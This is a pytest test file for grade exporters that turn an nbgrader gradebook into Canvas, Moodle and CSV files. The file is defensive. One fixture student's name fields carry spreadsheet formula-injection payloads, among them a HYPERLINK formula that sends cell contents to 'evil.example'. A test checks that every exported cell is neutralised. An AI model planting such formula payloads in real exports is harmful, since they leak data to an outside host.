"""Grades out of a real gradebook, in the files that others import."""

from __future__ import annotations

import csv
import datetime
import logging
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder.classroom.exporters import (
    CanvasExporter,
    CsvExporter,
    GradesExporter,
    MoodleExporter,
)
from autograder.errors import NothingGraded
from llmlab.errors import WorkspaceError

# nbgrader's own way of adding a submission makes SQLAlchemy warn.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

EVIL = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A course of two labs: Ada was late, Eve's name is an attack, Mallory handed in nothing."""
    address = f"sqlite:///{tmp_path_factory.mktemp('course')}/gradebook.db"
    with Gradebook(address) as gradebook:
        for lab, points in (("00_welcome", 2), ("05_attention", 8)):
            gradebook.add_assignment(lab, duedate=datetime.datetime(2026, 11, 2, 12))
            gradebook.add_notebook("topic", lab)
            gradebook.add_grade_cell("topic-one", "topic", lab, max_score=points, cell_type="code")
        gradebook.add_grade_cell(
            "topic-why", "topic", "05_attention", max_score=2, cell_type="markdown"
        )
        gradebook.add_solution_cell("topic-why", "topic", "05_attention")
        gradebook.add_student(
            "ada", first_name="Ada", last_name="Lovelace", email="ada@example.org", lms_user_id="17"
        )
        gradebook.add_student("eve", first_name="+1", last_name=EVIL, email="@SUM(A1)")
        gradebook.add_student("mallory", last_name="Points Possible")
        for student, points in (("ada", 7.5), ("eve", 0)):
            gradebook.add_submission(
                "05_attention", student, timestamp=datetime.datetime(2026, 11, 2, 13)
            )
            grade = gradebook.find_grade("topic-one", "topic", "05_attention", student)
            grade.auto_score, grade.needs_manual_grade = points, False
        answer = gradebook.find_grade("topic-why", "topic", "05_attention", "ada")
        answer.manual_score, answer.needs_manual_grade = 2, False
        comment = gradebook.find_comment("topic-why", "topic", "05_attention", "ada")
        comment.manual_comment = "A clear reason."
        notebook = gradebook.find_submission_notebook("topic", "05_attention", "ada")
        notebook.late_submission_penalty = 1.5
        gradebook.db.commit()
    return address


def table(exporter: GradesExporter, url: str, path: Path) -> list[dict[str, str]]:
    exporter.to = str(path)
    with Gradebook(url) as gradebook:
        exporter.export(gradebook)
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file, strict=True))


def test_canvas_reads_points_possible_first_and_grades_less_penalties(
    url: str, tmp_path: Path
) -> None:
    rows = table(CanvasExporter(), url, tmp_path / "canvas.csv")
    head = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "00_welcome", "05_attention"]
    assert list(rows[0]) == head
    assert rows[0]["Student"] == "Points Possible"
    assert (rows[0]["00_welcome"], rows[0]["05_attention"]) == ("2", "10")
    (ada,) = [row for row in rows if row["SIS Login ID"] == "ada"]
    assert ada["Student"] == "Lovelace, Ada"
    assert (ada["ID"], ada["00_welcome"], ada["05_attention"]) == ("17", "", "8")


def test_a_student_named_like_canvas_own_row_cannot_change_the_points_possible(
    url: str, tmp_path: Path
) -> None:
    rows = table(CanvasExporter(), url, tmp_path / "canvas.csv")
    assert [row["SIS Login ID"] for row in rows if "Points Possible" in row["Student"]] == [""]


def test_who_handed_in_nothing_has_no_grade_unless_the_course_says_zero(
    url: str, tmp_path: Path
) -> None:
    open_ = table(CanvasExporter(), url, tmp_path / "canvas.csv")[-1]
    zero = table(CanvasExporter(missing_as_zero=True), url, tmp_path / "canvas.csv")[-1]
    assert (open_["SIS Login ID"], open_["05_attention"]) == ("mallory", "")
    assert (zero["SIS Login ID"], zero["05_attention"]) == ("mallory", "0")


def test_moodle_gets_grades_and_feedback_of_those_whom_it_can_find(
    url: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    exporter = MoodleExporter(log=logging.getLogger("export"))
    rows = table(exporter, url, tmp_path / "moodle.csv")
    assert [row["Email address"] for row in rows] == ["ada@example.org"]
    assert (rows[0]["00_welcome"], rows[0]["00_welcome feedback"]) == ("-", "")
    assert rows[0]["05_attention"] == "8"
    assert rows[0]["05_attention feedback"] == (
        "topic-one: 7.5 of 8. topic-why: 2 of 2. A clear reason. Late: 1.5 points less."
    )
    for student in ("eve", "mallory"):
        assert f"{student} is left out" in caplog.text


def test_moodle_can_find_students_by_their_user_names(url: str, tmp_path: Path) -> None:
    rows = table(MoodleExporter(identify_by="username"), url, tmp_path / "moodle.csv")
    assert {row["Username"] for row in rows} == {"ada", "eve", "mallory"}


def test_csv_has_a_row_for_each_student_and_lab_in_nbgraders_columns(
    url: str, tmp_path: Path
) -> None:
    rows = table(CsvExporter(), url, tmp_path / "grades.csv")
    assert len(rows) == 6
    (ada,) = [r for r in rows if (r["student_id"], r["assignment"]) == ("ada", "05_attention")]
    expected = {
        "timestamp": "2026-11-02 13:00:00",
        "raw_score": "9.5",
        "late_submission_penalty": "1.5",
        "score": "8",
        "max_score": "10",
    }
    assert ada | expected == ada


@pytest.mark.parametrize("exporter", [CsvExporter, CanvasExporter, MoodleExporter])
def test_no_cell_of_any_export_is_a_formula(
    exporter: type[GradesExporter], url: str, tmp_path: Path
) -> None:
    setting = {"identify_by": "username"} if exporter is MoodleExporter else {}
    rows = table(exporter(**setting), url, tmp_path / "grades.csv")
    cells = [cell for row in rows for cell in row.values()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t") and cell != "-"]


def test_a_submission_that_waits_for_a_person_is_named(
    url: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    table(CanvasExporter(log=logging.getLogger("export")), url, tmp_path / "canvas.csv")
    assert "05_attention of eve waits for a person's grade" in caplog.text
    assert "of ada waits" not in caplog.text


def test_an_export_can_be_narrowed_to_students_and_labs(url: str, tmp_path: Path) -> None:
    exporter = CsvExporter(student=["ada"], assignment=["05_attention"])
    assert len(table(exporter, url, tmp_path / "grades.csv")) == 1


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ({"student": ["adda"]}, r"no student `adda`; did you mean `ada`\?"),
        ({"assignment": ["06"]}, "no assignment `06`; it has 2 others"),
    ],
)
def test_a_name_that_the_gradebook_lacks_is_said_with_the_nearest(
    setting: dict[str, list[str]], message: str, url: str, tmp_path: Path
) -> None:
    with pytest.raises(NothingGraded, match=message):
        table(CanvasExporter(**setting), url, tmp_path / "canvas.csv")
    assert not (tmp_path / "canvas.csv").exists()


@pytest.mark.parametrize("exporter", [CsvExporter, CanvasExporter, MoodleExporter])
def test_an_empty_gradebook_is_said(exporter: type[GradesExporter], tmp_path: Path) -> None:
    with pytest.raises(NothingGraded, match="run this in the course folder, after grading"):
        table(exporter(), f"sqlite:///{tmp_path}/gradebook.db", tmp_path / "grades.csv")


def test_a_place_that_cannot_be_written_is_said(url: str, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(WorkspaceError, match="could not be written"):
        table(CanvasExporter(), url, tmp_path / "file" / "canvas.csv")


@pytest.mark.classroom
def test_stock_nbgrader_runs_the_exporter_and_says_an_error_in_one_sentence(
    url: str, tmp_path: Path
) -> None:
    bin_ = Path(sys.executable).parent
    environment = {
        "PATH": f"{bin_}:/usr/bin:/bin",
        "HOME": str(tmp_path / "home"),
        "PYTHONPATH": ":".join(sys.path),
    }
    (tmp_path / "home").mkdir()
    command = [bin_ / "nbgrader", "export", f"--db={url}"]
    command.append("--exporter=autograder.classroom.exporters.CanvasExporter")
    options = {"cwd": tmp_path, "env": environment, "capture_output": True, "text": True}
    done = subprocess.run([*command, "--to=here.csv"], **options)  # type: ignore[call-overload]
    assert done.returncode == 0, done.stderr
    assert "Lovelace, Ada" in (tmp_path / "here.csv").read_text("utf-8")
    done = subprocess.run([*command, "--student=['bob']"], **options)  # type: ignore[call-overload]
    assert done.returncode == 1
    assert "The gradebook has no student `bob`; it has 3 others." in done.stderr
    assert "Traceback" not in done.stderr
